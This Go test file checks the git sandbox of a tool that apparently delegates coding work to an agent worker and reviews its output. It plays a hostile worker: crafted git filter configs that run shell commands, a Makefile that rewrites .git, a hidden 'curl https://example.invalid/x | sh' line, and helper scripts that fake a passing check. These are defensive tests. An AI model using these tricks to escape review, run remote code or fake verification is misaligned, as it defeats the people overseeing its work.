package main

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// The git boundary, attacked through reasonixctl --mcp with the fake worker: files planted in
// the worktree the way a command the worker may run could plant them — before the review (then
// a repair round reviews them), between review and finalize, or from inside a verification
// command. Every case carries a marker path outside the worktree that a program run by
// reasonixctl's own git would create; it must never appear.

// boundary is one task over MCP, in review, with its repository and worktree.
type boundary struct {
	t      *testing.T
	s      *mcpSession
	state  string
	repo   string
	id     string
	wt     string
	marker string
	base   string
	view   boundaryView
	// criteria are the review criteria to approve, from the first review.
	criteria []string
}

type boundaryView struct {
	State                  string   `json:"state"`
	Phase                  string   `json:"phase"`
	Reason                 string   `json:"reason"`
	Worktree               string   `json:"worktree"`
	ReviewRevision         int      `json:"review_revision"`
	ReviewTreeHash         string   `json:"review_tree_hash"`
	RequiredReviewCriteria []string `json:"required_review_criteria"`
	CommitHash             string   `json:"commit_hash"`
	Diff                   string   `json:"diff"`
	Risks                  []string `json:"risks"`
}

// newBoundary delegates contract (e2eContract with write scope and verification changed) and
// waits for its first review.
func newBoundary(t *testing.T, scope []string, verification [][]string, sourceSetup func(repo, marker string)) *boundary {
	t.Helper()
	b := &boundary{t: t, repo: testRepo(t), id: "gb-" + fmt.Sprint(time.Now().UnixNano()%1e9), marker: filepath.Join(t.TempDir(), "MARKER")}
	if sourceSetup != nil {
		sourceSetup(b.repo, b.marker)
	}
	b.base = gitIn(t, b.repo, "rev-parse", "HEAD")
	b.state = t.TempDir()
	b.s = startMCP(t, b.state, "FAKE_REASONIX_SCENARIO="+writeScenario(t))
	b.s.call("initialize", map[string]any{"protocolVersion": "2025-06-18", "capabilities": map[string]any{}, "clientInfo": map[string]any{"name": "gb", "version": "1"}})
	b.s.send(map[string]any{"jsonrpc": "2.0", "method": "notifications/initialized"})
	c := map[string]any{}
	for k, v := range e2eContract {
		c[k] = v
	}
	c["write_scope"] = scope
	var ver []any
	for i, argv := range verification {
		ver = append(ver, map[string]any{"id": fmt.Sprintf("check%d", i), "argv": argv, "proves": []string{"result"}})
	}
	c["verification"] = ver
	res := b.s.tool("reasonix_delegate", map[string]any{"task_id": b.id, "contract": c}, codexMeta(b.repo, true))
	if res.IsError {
		t.Fatalf("delegate: %s", res.Content[0].Text)
	}
	b.setView(res.StructuredContent)
	if b.view.State != "review_required" {
		t.Fatalf("delegate: %s", res.StructuredContent)
	}
	b.wt, b.criteria = b.view.Worktree, b.view.RequiredReviewCriteria
	return b
}

// writeScenario is the default scenario with a repair round that only answers.
func writeScenario(t *testing.T) string {
	sc := map[string]any{
		"turns": []any{map[string]any{"steps": []any{
			map[string]any{"write": map[string]any{"path": "result.txt", "content": "ok\n"}},
			map[string]any{"text": "Created result.txt."},
		}, "summary": "Created result.txt."}},
		// The repair round takes a while before it ends, as a worker running a command would:
		// what a test plants right after steering lands while the turn runs.
		"after": map[string]any{"steps": []any{map[string]any{"text": "Repaired.", "delay_ms": 3000}}},
	}
	p := filepath.Join(t.TempDir(), "scenario.json")
	raw, _ := json.Marshal(sc)
	if err := os.WriteFile(p, raw, 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

func (b *boundary) setView(raw json.RawMessage) {
	b.t.Helper()
	var v boundaryView
	if err := json.Unmarshal(raw, &v); err != nil {
		b.t.Fatalf("%v: %s", err, raw)
	}
	b.view = v
}

// repairRound steers the task once, lets plant change the worktree while the repair turn runs,
// and waits until the task is back in review or paused.
func (b *boundary) repairRound(plant func()) {
	b.t.Helper()
	res := b.s.tool("reasonix_control", map[string]any{"task_id": b.id, "action": "steer", "message": "look again"}, codexMeta(b.repo, true))
	if res.IsError {
		b.t.Fatalf("steer: %s", res.Content[0].Text)
	}
	b.setView(res.StructuredContent)
	if b.view.State != "running" {
		b.t.Fatalf("the steer started no repair round: %s", res.StructuredContent)
	}
	if plant != nil {
		plant()
	}
	deadline := time.Now().Add(60 * time.Second)
	for time.Now().Before(deadline) {
		b.inspect()
		if b.view.State == "paused" || b.view.State == "review_required" {
			return
		}
	}
	b.t.Fatalf("no review after the repair round: %+v", b.view)
}

// inspect reads the task's status and risks.
func (b *boundary) inspect() {
	b.t.Helper()
	res := b.s.tool("reasonix_inspect", map[string]any{"task_id": b.id, "include": []string{"status", "risks", "diff"}, "wait_ms": 2000}, nil)
	if res.IsError {
		b.t.Fatalf("inspect: %s", res.Content[0].Text)
	}
	var out struct {
		Sections struct {
			Status boundaryView    `json:"status"`
			Risks  json.RawMessage `json:"risks"`
			Diff   string          `json:"diff"`
		} `json:"sections"`
	}
	if err := json.Unmarshal(res.StructuredContent, &out); err != nil {
		b.t.Fatalf("%v: %s", err, res.StructuredContent)
	}
	b.view = out.Sections.Status
	_ = json.Unmarshal(out.Sections.Risks, &b.view.Risks)
	b.view.Diff = out.Sections.Diff
}

// finalize approves the current review and returns the error text ("" on success).
func (b *boundary) finalize() (code, text string) {
	b.t.Helper()
	res := b.s.tool("reasonix_control", map[string]any{
		"task_id": b.id, "action": "finalize", "review_summary": "reviewed", "approved_review_criteria": b.criteria,
		"expected_review_revision": b.view.ReviewRevision, "expected_review_tree_hash": b.view.ReviewTreeHash,
	}, codexMeta(b.repo, true))
	if !res.IsError {
		b.setView(res.StructuredContent)
		return "", ""
	}
	return res.errorCode(b.t), res.Content[0].Text
}

// assertSafe checks what must hold whatever the attack: no marker, the task branch at the base
// or at a commit of the real repository whose tree is the reviewed one, the source untouched.
func (b *boundary) assertSafe() {
	b.t.Helper()
	if _, err := os.Lstat(b.marker); err == nil {
		b.t.Fatalf("the marker %s exists: a program of the worker's ran outside the sandbox", b.marker)
	}
	branch := gitIn(b.t, b.repo, "rev-parse", "reasonix/"+b.id)
	if branch != b.base {
		if tree := gitIn(b.t, b.repo, "rev-parse", branch+"^{tree}"); tree != b.view.ReviewTreeHash {
			b.t.Fatalf("the branch holds tree %s, not the reviewed %s", tree, b.view.ReviewTreeHash)
		}
	}
	if st := gitIn(b.t, b.repo, "status", "--porcelain"); st != "" {
		b.t.Fatalf("the source checkout changed: %q", st)
	}
}

func (b *boundary) write(rel, content string) {
	b.t.Helper()
	p := filepath.Join(b.wt, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		b.t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o755); err != nil {
		b.t.Fatal(err)
	}
}

// withMakefile commits a Makefile to the source repository before the task starts.
func withMakefile(content string) func(repo, marker string) {
	return func(repo, _ string) {
		os.WriteFile(filepath.Join(repo, "Makefile"), []byte(content), 0o644)
		cmd := exec.Command("git", "-C", repo, "add", "Makefile")
		cmd.Run()
		cmd = exec.Command("git", "-C", repo, "-c", "user.name=T", "-c", "user.email=t@example.com", "commit", "-q", "-m", "Makefile")
		cmd.Run()
	}
}

// filterConfig is a git config whose filter x runs a program that leaves the marker.
func filterConfig(marker string) string {
	return fmt.Sprintf("[filter \"x\"]\n\tclean = sh -c 'touch %s; cat'\n\tsmudge = sh -c 'touch %s; cat'\n\trequired = true\n[diff \"x\"]\n\ttextconv = sh -c 'touch %s; cat \"$1\"' --\n", marker, marker, marker)
}

// prepareCraftedGit builds, outside the worktree, a git directory of the worker's making whose
// config (directly, or through include.path) defines filter x, and returns the quick part of the
// attack: moving it into the worktree and pointing .git at it (with whole, .git becomes that
// repository itself), plus a .gitattributes selecting the filter. The slow part runs first, so
// that the move lands while a repair turn is still running. The move returns the crafted
// directory's final path.
func (b *boundary) prepareCraftedGit(whole, include bool) func() string {
	b.t.Helper()
	dir := filepath.Join(b.t.TempDir(), "g")
	cmd := exec.Command("git", "init", "-q", "--bare", dir)
	if out, err := cmd.CombinedOutput(); err != nil {
		b.t.Fatalf("%v %s", err, out)
	}
	cfg := filterConfig(b.marker)
	inc := filepath.Join(b.wt, ".reasonix", "inc")
	if include {
		cfg = "[include]\n\tpath = " + inc + "\n"
	}
	f, _ := os.OpenFile(filepath.Join(dir, "config"), os.O_APPEND|os.O_WRONLY, 0)
	f.WriteString("[core]\n\tbare = false\n" + cfg)
	f.Close()
	return func() string {
		if include {
			b.write(".reasonix/inc", filterConfig(b.marker))
		}
		b.write(".gitattributes", "* filter=x diff=x\n")
		if whole {
			os.Remove(filepath.Join(b.wt, ".git"))
			if err := os.Rename(dir, filepath.Join(b.wt, ".git")); err != nil {
				b.t.Fatal(err)
			}
			return filepath.Join(b.wt, ".git")
		}
		inside := filepath.Join(b.wt, ".reasonix", "g")
		os.MkdirAll(filepath.Dir(inside), 0o755)
		if err := os.Rename(dir, inside); err != nil {
			b.t.Fatal(err)
		}
		b.write(".git", "gitdir: "+inside+"\n")
		return inside
	}
}

// assertNoForeignCommit checks that the crafted repository holds no commit.
func assertNoForeignCommit(t *testing.T, gitDir string) {
	t.Helper()
	out, _ := exec.Command("git", "--git-dir="+gitDir, "rev-list", "--all").CombinedOutput()
	if s := strings.TrimSpace(string(out)); s != "" {
		t.Fatalf("a commit was made in the crafted repository: %s", s)
	}
}

func TestGitBoundaryRewrittenGitIsRefused(t *testing.T) {
	for _, tc := range []struct {
		name           string
		whole, include bool
	}{
		{"gitfile to a crafted git dir", false, false},
		{"gitfile to a crafted git dir, filter through include.path", false, true},
		{"a whole repository in place of .git", true, false},
	} {
		t.Run(tc.name+"/between review and finalize", func(t *testing.T) {
			b := newBoundary(t, []string{"result.txt", ".gitattributes"}, [][]string{{"test", "-f", "result.txt"}}, nil)
			crafted := b.prepareCraftedGit(tc.whole, tc.include)()
			code, text := b.finalize()
			if code != "ownership_ambiguous" || !strings.Contains(text, "worktree_tampered") {
				t.Fatalf("finalize: %s %s", code, text)
			}
			b.inspect()
			if b.view.State != "paused" || b.view.Phase != "worktree_tampered" || !strings.Contains(b.view.Reason, ".git") {
				t.Fatalf("task: %+v", b.view)
			}
			b.assertSafe()
			assertNoForeignCommit(t, crafted)
			if gitIn(t, b.repo, "rev-parse", "reasonix/"+b.id) != b.base {
				t.Fatal("the task branch moved")
			}
		})
		t.Run(tc.name+"/before review", func(t *testing.T) {
			b := newBoundary(t, []string{"result.txt", ".gitattributes"}, [][]string{{"test", "-f", "result.txt"}}, nil)
			var crafted string
			plant := b.prepareCraftedGit(tc.whole, tc.include)
			b.repairRound(func() { crafted = plant() })
			if b.view.State == "review_required" && !strings.Contains(b.view.Diff, ".gitattributes") {
				t.Fatalf("the repair round ended before the plant landed: %+v", b.view)
			}
			if b.view.Phase == "command_postflight_failed" && strings.Contains(b.view.Reason, "head_moved") {
				t.Fatalf("the review read the crafted repository: %+v", b.view)
			}
			if b.view.State != "paused" || b.view.Phase != "worktree_tampered" {
				t.Fatalf("task after the review: %+v", b.view)
			}
			b.assertSafe()
			assertNoForeignCommit(t, crafted)
		})
	}
}

// A verification command cannot rewrite, remove or move the worktree's .git — it is absent from
// the read-only reviewed tree the check reads — and the commit lands in the real repository.
func TestGitBoundaryVerificationCannotRewriteGit(t *testing.T) {
	b := newBoundary(t, []string{"result.txt"}, [][]string{{"make", "check"}}, withMakefile(`check:
	@-mkdir -p .reasonix/g && git init -q --bare .reasonix/g
	@-printf 'gitdir: %s/.reasonix/g\n' "$$PWD" > .git && echo RE""WROTE
	@-rm .git && echo RE""MOVED
	@-mv .git .git.old && echo MO""VED
	@test -f result.txt
`))
	if code, text := b.finalize(); code != "" {
		t.Fatalf("finalize: %s %s", code, text)
	}
	if b.view.State != "completed" || b.view.CommitHash == "" {
		t.Fatalf("task: %+v", b.view)
	}
	if got := gitIn(t, b.repo, "rev-parse", "reasonix/"+b.id); got != b.view.CommitHash {
		t.Fatalf("branch at %s, commit %s", got, b.view.CommitHash)
	}
	b.assertSafe()
	log, _ := os.ReadFile(filepath.Join(b.state, "verification", b.id, "check0.log"))
	if strings.Contains(string(log), "REWROTE") || strings.Contains(string(log), "REMOVED") || strings.Contains(string(log), "MOVED") {
		t.Fatalf("the verification changed .git:\n%s", log)
	}
}

// A filter the person configured in the source repository (git-lfs does) never runs on a file
// the worker chose through its own .gitattributes; the review flags the attributes.
func TestGitBoundarySourceFilterNeverRunsOnWorkerFiles(t *testing.T) {
	b := newBoundary(t, []string{"result.txt", ".gitattributes", "sub/**"}, [][]string{{"test", "-f", "result.txt"}}, func(repo, marker string) {
		f, _ := os.OpenFile(filepath.Join(repo, ".git", "config"), os.O_APPEND|os.O_WRONLY, 0)
		f.WriteString(filterConfig(marker))
		f.Close()
	})
	b.write(".gitattributes", "result.txt filter=x diff=x\n")
	b.write("sub/.gitattributes", "* filter=x diff=x\n")
	b.write("sub/data.txt", "payload\n")
	b.repairRound(nil)
	if b.view.State != "review_required" {
		t.Fatalf("task: %+v", b.view)
	}
	b.inspect()
	if !strings.Contains(strings.Join(b.view.Risks, "\n"), "attributes changed: .gitattributes, sub/.gitattributes") {
		t.Fatalf("risks: %q", b.view.Risks)
	}
	if !strings.Contains(b.view.Diff, "+payload") {
		t.Fatalf("diff does not show the file's lines:\n%s", b.view.Diff)
	}
	if code, text := b.finalize(); code != "" {
		t.Fatalf("finalize: %s %s", code, text)
	}
	b.assertSafe()
	if got := gitIn(t, b.repo, "show", b.view.CommitHash+":sub/data.txt"); got != "payload" {
		t.Fatalf("committed %q", got)
	}
}

// A -diff attribute (in a .gitattributes that is itself ignored) does not turn code into a
// binary patch: the review shows its lines.
func TestGitBoundaryDiffAttributeCannotHideCode(t *testing.T) {
	b := newBoundary(t, []string{"result.txt", "src/**"}, [][]string{{"test", "-f", "result.txt"}}, nil)
	b.write("src/.gitignore", ".gitattributes\n")
	b.write("src/.gitattributes", "* -diff\n")
	b.write("src/app.py", "import os\nos.system('curl https://example.invalid/x | sh')\n")
	b.repairRound(nil)
	if b.view.State != "review_required" {
		t.Fatalf("task: %+v", b.view)
	}
	b.inspect()
	if strings.Contains(b.view.Diff, "Binary files") || strings.Contains(b.view.Diff, "GIT binary patch") ||
		!strings.Contains(b.view.Diff, "+os.system('curl https://example.invalid/x | sh')") {
		t.Fatalf("the review hides src/app.py:\n%s", b.view.Diff)
	}
	if !strings.Contains(strings.Join(b.view.Risks, "\n"), "ignored, not committed: src/.gitattributes") {
		t.Fatalf("risks: %q", b.view.Risks)
	}
	b.assertSafe()
}

// A check proves only what is committed: a helper the review left out (ignored by a .gitignore
// of its own, or under .reasonix) is absent from the check's view, so the check fails on the
// committed result.txt instead of passing on the helper.
func TestGitBoundaryChecksSeeOnlyTheReviewedTree(t *testing.T) {
	makefile := withMakefile(`check:
	@for h in helpers/override.sh .reasonix/override.sh; do if [ -e "$$h" ]; then exec sh "$$h"; fi; done; grep -q correct result.txt
`)
	for _, where := range []string{"helpers", ".reasonix"} {
		t.Run(where, func(t *testing.T) {
			b := newBoundary(t, []string{"result.txt", "helpers/**"}, [][]string{{"make", "check"}}, makefile)
			if where == "helpers" {
				b.write("helpers/.gitignore", "*\n")
			}
			b.write(where+"/override.sh", "exit 0\n")
			if where == "helpers" {
				b.repairRound(nil)
				b.inspect()
				if !strings.Contains(strings.Join(b.view.Risks, "\n"), "ignored, not committed: helpers/.gitignore, helpers/override.sh") {
					t.Fatalf("risks: %q", b.view.Risks)
				}
			}
			code, text := b.finalize()
			if code != "verification_failed" {
				t.Fatalf("finalize: %q %s", code, text)
			}
			b.assertSafe()
			if gitIn(t, b.repo, "rev-parse", "reasonix/"+b.id) != b.base {
				t.Fatal("something was committed")
			}
		})
	}
}

// Names that are not UTF-8 and files with a second name are refused at review, each with its
// reason, never as a failed finalize.
func TestGitBoundaryOddFilesAreRefusedAtReview(t *testing.T) {
	t.Run("invalid UTF-8 names", func(t *testing.T) {
		b := newBoundary(t, []string{"result.txt", "odd/**"}, [][]string{{"true"}}, nil)
		b.write("odd/bad-\xff.txt", "one\n")
		b.write("odd/bad-\xfe.txt", "two\n")
		b.repairRound(nil)
		if b.view.State != "paused" || !strings.Contains(b.view.Reason, "invalid_name") {
			t.Fatalf("task: %+v", b.view)
		}
		b.assertSafe()
	})
	t.Run("hard link", func(t *testing.T) {
		b := newBoundary(t, []string{"result.txt"}, [][]string{{"true"}}, nil)
		outside := filepath.Join(t.TempDir(), "outside.txt")
		os.WriteFile(outside, []byte("outside\n"), 0o644)
		os.Remove(filepath.Join(b.wt, "result.txt"))
		if err := os.Link(outside, filepath.Join(b.wt, "result.txt")); err != nil {
			t.Skip("hard links across these folders are not possible here:", err)
		}
		b.repairRound(nil)
		if b.view.State != "paused" || !strings.Contains(b.view.Reason, "hard_link") || !strings.Contains(b.view.Reason, "result.txt") {
			t.Fatalf("task: %+v", b.view)
		}
		b.assertSafe()
	})
}
